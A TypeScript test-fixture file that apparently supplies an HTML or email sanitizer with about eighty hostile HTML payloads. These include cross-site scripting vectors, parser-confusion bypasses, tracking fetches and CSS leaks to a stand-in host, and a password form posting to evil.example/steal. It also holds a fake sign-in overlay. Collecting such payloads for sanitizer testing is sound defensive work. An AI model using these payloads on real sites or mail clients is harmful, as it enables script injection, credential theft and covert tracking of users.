// HTML that wants to run, fetch, send, lead away or reach out of its frame: one of each kind that browsers have known.

export type Payload = { readonly title: string; readonly payload: string };

/** Nobody is there; that it was asked for is what counts. */
const EVIL = "http://evil.example";
const OWN = "top.owned=parent.owned=window.owned=1";

const scripts = {
  "a script": `<script>${OWN}</script>`,
  "a script from elsewhere": `<script src="${EVIL}/a.js" async></script>`,
  "a script in odd letters": `<ScRiPt\t\n type="text/javascript" >${OWN}</sCrIpT\n>`,
  "a script with a slash for a space": `<script/x>${OWN}</script/x>`,
  "a script inside a broken script": `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  "a module": `<script type="module">import "${EVIL}/m.js"; ${OWN}</script>`,
  "rules that fetch ahead": `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/ahead"]}]}</script>`,
  "a script after a zero byte": `<s\u0000cript>${OWN}</s\u0000cript><\u0000script>${OWN}</script>`,
  "a script in an open shadow": `<div><template shadowrootmode="open"><script>${OWN}</script><img src="${EVIL}/shadow"></template></div>`,
  "a script behind a bare bracket": `<<script>${OWN}//<</script>`,
};

const handlers = {
  "a picture that fails": `<img src=x: onerror="${OWN}">`,
  "a picture without quotes": `<img/src=x:/onerror=${OWN}>`,
  "a picture with backticks": `<img src=\`x:\` onerror=\`${OWN}\`>`,
  "a picture in an attribute": `<p title="</p><img src=x: onerror=${OWN}>">hover</p>`,
  "a body that loads": `<body onload="${OWN}" onpageshow="${OWN}" onhashchange="${OWN}">`,
  "a focus that comes by itself": `<input autofocus onfocus="${OWN}"><a href="#x" autofocus tabindex=1 onfocusin="${OWN}">x</a>`,
  "details that open": `<details open ontoggle="${OWN}"><summary>More</summary>words</details>`,
  "words that run": `<marquee onstart="${OWN}" onfinish="${OWN}" width=9 loop=1>words</marquee>`,
  "a movement that begins": `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="${OWN}" onanimationend="${OWN}">b</b>`,
  "a transition": `<a style="transition:color 1ms" ontransitionend="${OWN}" onpointerover="${OWN}" href="tel:1">x</a>`,
  "a film that fails": `<video onerror="${OWN}"><source onerror="${OWN}" src="${EVIL}/v.mp4"></video>`,
  "a sound": `<audio src="${EVIL}/a.mp3" autoplay onloadstart="${OWN}" oncanplay="${OWN}"></audio>`,
  "a popover": `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="${OWN}">x</div>`,
  "a handler behind a line break": `<img src="x:"\u000conerror\u000d=\u000a"${OWN}">`,
  "a handler in entities": `<img src="x:" onerror="&#116;&#x6f;p.owned&equals;1;${OWN}">`,
  "a hidden thing that is found": `<div hidden=until-found onbeforematch="${OWN}" oncontentvisibilityautostatechange="${OWN}" style="content-visibility:auto">x</div>`,
};

const addresses = {
  "a link that is a script": `<a href="javascript:${OWN}">click</a>`,
  "a script address in pieces": `<a href="jav&#x09;asc&NewLine;ript&colon;${OWN}">click</a><a href="\u0001 javascript:${OWN}">click</a>`,
  "a script address in VBScript": `<a href="vbscript:${OWN}">x</a><img src="vbscript:${OWN}"><img dynsrc="javascript:${OWN}" lowsrc="javascript:${OWN}">`,
  "a page in an address": `<a href="data:text/html;base64,PHNjcmlwdD50b3Aub3duZWQ9MTwvc2NyaXB0Pg==">x</a><iframe src="data:text/html,<script>${OWN}</script>"></iframe>`,
  "a link that goes to the whole window": `<a href="${EVIL}/top" target="_top">x</a><a href="${EVIL}/parent" target="_parent">x</a><a href="${EVIL}/self" target="_self" rel="opener">x</a>`,
  "a link that reports": `<a href="https://ok.example/" ping="${EVIL}/ping" attributionsrc="${EVIL}/attribution">x</a>`,
  "an area of a map": `<img usemap="#m" src="x:"><map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:${OWN}" target="_top"></map>`,
  "another base": `<base href="${EVIL}/" target="_self"><a href="/relative">x</a><img src="relative.png">`,
  "a page that moves on": `<meta http-equiv="refresh" content="0; url=${EVIL}/refresh"><meta http-equiv="refresh" content="0;URL='javascript:${OWN}'">`,
  "its own rules": `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'; report-uri ${EVIL}/report"><meta http-equiv="Set-Cookie" content="a=b"><img src="x:" onerror="${OWN}">`,
};

const drawings = {
  "a drawing that loads": `<svg onload="${OWN}"><script>${OWN}</script></svg>`,
  "a drawing with a picture": `<svg><image href="${EVIL}/svg.png" xlink:href="${EVIL}/xlink.png"/><feImage href="${EVIL}/fe.png"/></svg>`,
  "a drawing that uses another": `<svg><use href="${EVIL}/use.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${OWN}'/></svg>#x"/></svg>`,
  "a drawing whose link changes": `<svg><a><animate attributeName="href" values="javascript:${OWN}"/><text y="20">click</text></a><set attributeName="onload" to="${OWN}"/></svg>`,
  "a drawing with a page inside": `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe srcdoc="<script>${OWN}</script>"></iframe></body></foreignObject></svg>`,
  "a drawing as a picture": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${OWN}'><image href='${EVIL}/in.png'/></svg>">`,
  "a formula with a link": `<math href="javascript:${OWN}"><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${OWN}">x</maction></math>`,
  "lines of an old Office": `<v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#VML)"><v:fill src="${EVIL}/vml.png"/></v:rect><xml id=i src="${EVIL}/island.xml"></xml>`,
};

const confusions = {
  "a noscript that ends early": `<noscript><p title="</noscript><img src=x: onerror=${OWN}>"></noscript>`,
  "a title that ends early": `<title><a title="</title><img src=x: onerror=${OWN}>"></title>`,
  "a textarea that ends early": `<textarea><img title="</textarea><img src=x: onerror=${OWN}>"></textarea>`,
  "a style inside a drawing": `<svg></p><style><a id="</style><img src=x: onerror=${OWN}>">`,
  "a style inside a formula": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${OWN}&gt;">`,
  "a form in a form in a formula": `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${OWN}>`,
  "a comment that opens again": `<!--><img src=x: onerror=${OWN}>--><!--- --!><img src=x: onerror=${OWN}>-->`,
  "a comment for old Explorer": `<!--[if gte IE 4]><script>${OWN}</script><![endif]--><![if !mso]><img src="${EVIL}/mso.png"><![endif]>`,
  "a section of XML": `<svg><![CDATA[><img src=x: onerror=${OWN}>]]></svg><?php <img src=x: onerror=${OWN}> ?><?xml-stylesheet href="${EVIL}/x.css"?>`,
  "words to the end": `before<plaintext><script>${OWN}</script><img src=x: onerror=${OWN}>`,
  "old words": `<xmp><p title="</xmp><img src=x: onerror=${OWN}>"></xmp><listing>&lt;img src=x: onerror=${OWN}&gt;</listing><noembed><img title="</noembed><img src=x: onerror=${OWN}>"></noembed>`,
  "a list of choices": `<select><option><style></option></select><img src=x: onerror=${OWN}></style></select>`,
  "a table that throws out": `<table><td><svg><desc><td><a title="</desc></svg><img src=x: onerror=${OWN}>"></table>`,
  "quotes that never end": `<img title='"onerror=${OWN} src=x: <p title="x' onmouseover="${OWN}">x`,
  "text that becomes markup when it is read twice": `&lt;img src=x: onerror=${OWN}&gt;<p>&amp;lt;script&amp;gt;${OWN}&amp;lt;/script&amp;gt;</p>`,
  "letters of an old charset": `<meta charset="utf-7">+ADw-script+AD4-${OWN}+ADw-/script+AD4-`,
  "a hundred thousand boxes": `${"<b><div>".repeat(2_000)}<img src=x: onerror=${OWN}>`,
  "the end of the document": `</div></body></html><script>${OWN}</script><img src="${EVIL}/after.png">`,
  "the end of the attribute": `"></iframe><script>${OWN}</script><iframe srcdoc="'></iframe><img src=x: onerror=${OWN}>`,
};

const fetches = {
  "a counting pixel": `<img src="${EVIL}/pixel.gif" width="1" height="1" style="display:none">`,
  "pictures by size": `<img srcset="${EVIL}/1x.png 1x, ${EVIL}/2x.png 2x"><picture><source srcset="${EVIL}/source.webp"><img src="//evil.example/plain.png" loading="eager"></picture>`,
  "a film's cover": `<video poster="${EVIL}/poster.jpg"><track src="${EVIL}/track.vtt" default></video>`,
  "old backgrounds": `<body background="${EVIL}/body.png"><table background="${EVIL}/table.png"><tr background="${EVIL}/tr.png"><td background="${EVIL}/td.png">x</td></tr></table>`,
  "a background by style": `<div style="background:url('${EVIL}/bg.png')">x</div><p style="background-image:\\75\\72\\6c(${EVIL}/escaped.png)">x</p><i style="background:image-set('${EVIL}/set.png' 1x)">x</i>`,
  "other styles that fetch": `<ul style="list-style-image:url(${EVIL}/list.png)"><li style="cursor:url(${EVIL}/cursor.cur),auto">x</ul><p style="content:url(${EVIL}/content.png);border-image:url(${EVIL}/border.png) 1;mask:url(${EVIL}/mask.svg);filter:url(${EVIL}/f.svg#x);shape-outside:url(${EVIL}/shape.png)">x</p>`,
  "a style sheet": `<style>@import "${EVIL}/import.css";@font-face{font-family:f;src:url(${EVIL}/font.woff)}*{font-family:f;background:url(${EVIL}/sheet.png)}a[href^="h"]{background:url(${EVIL}/leak)}</style>`,
  "links of the head": `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/p"><link rel="preconnect" href="${EVIL}"><link rel="dns-prefetch" href="${EVIL}"><link rel="icon" href="${EVIL}/i"><link rel="manifest" href="${EVIL}/m"><link rel="modulepreload" href="${EVIL}/mp.js">`,
  "styles that run": `<p style="width:expression(${OWN});-moz-binding:url(${EVIL}/x.xml#y);behavior:url(${EVIL}/b.htc)">x</p><style>p{x:expre/**/ssion(${OWN})}</style>`,
  "things put in": `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"><param name="movie" value="${EVIL}/p.swf"></object><embed src="${EVIL}/e.pdf"><applet code="${EVIL}/A.class" archive="${EVIL}/a.jar"></applet>`,
};

const frames = {
  "a frame": `<iframe src="${EVIL}/frame"></iframe><iframe src="javascript:${OWN}"></iframe>`,
  "a frame with its own page": `<iframe srcdoc="&lt;script&gt;${OWN}&lt;/script&gt;&lt;img src=${EVIL}/srcdoc.png&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
  "a set of frames": `<frameset onload="${OWN}"><frame src="${EVIL}/set"></frameset>`,
  "frames of tomorrow": `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/fenced"></fencedframe><webview src="${EVIL}/webview"></webview>`,
};

const forms = {
  "a form": `<form action="${EVIL}/steal" method="post" target="_top"><input name="password" value="x"><button>Sign in</button></form>`,
  "a button that sends elsewhere": `<form id="f"></form><button form="f" formaction="javascript:${OWN}">x</button><input type="image" src="${EVIL}/image.png" formaction="${EVIL}/image" form="f">`,
  "a question of old": `<isindex action="javascript:${OWN}" prompt="Password:"><keygen autofocus onfocus="${OWN}">`,
  "a cover over everything": `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">Your session has ended. <a href="${EVIL}/login">Sign in</a></div>`,
  "names that take the page's own": `<form name="body"><input name="getElementById"><input name="attributes"></form><img name="contentDocument"><a id="defaultView" href="${EVIL}">x</a><p id="documentElement">x</p>`,
  "a page to be written on": `<div contenteditable autofocus onfocus="${OWN}" oninput="${OWN}">write</div><dialog open oncancel="${OWN}"><form method="dialog"><button autofocus onfocus="${OWN}">x</button></form></dialog>`,
};

/** Each is a mail of its own: what one leaves open must not hide the next. */
export const hostileHtml: readonly Payload[] = Object.entries({
  ...scripts,
  ...handlers,
  ...addresses,
  ...drawings,
  ...confusions,
  ...fetches,
  ...frames,
  ...forms,
}).map(([title, payload]) => ({ title, payload }));
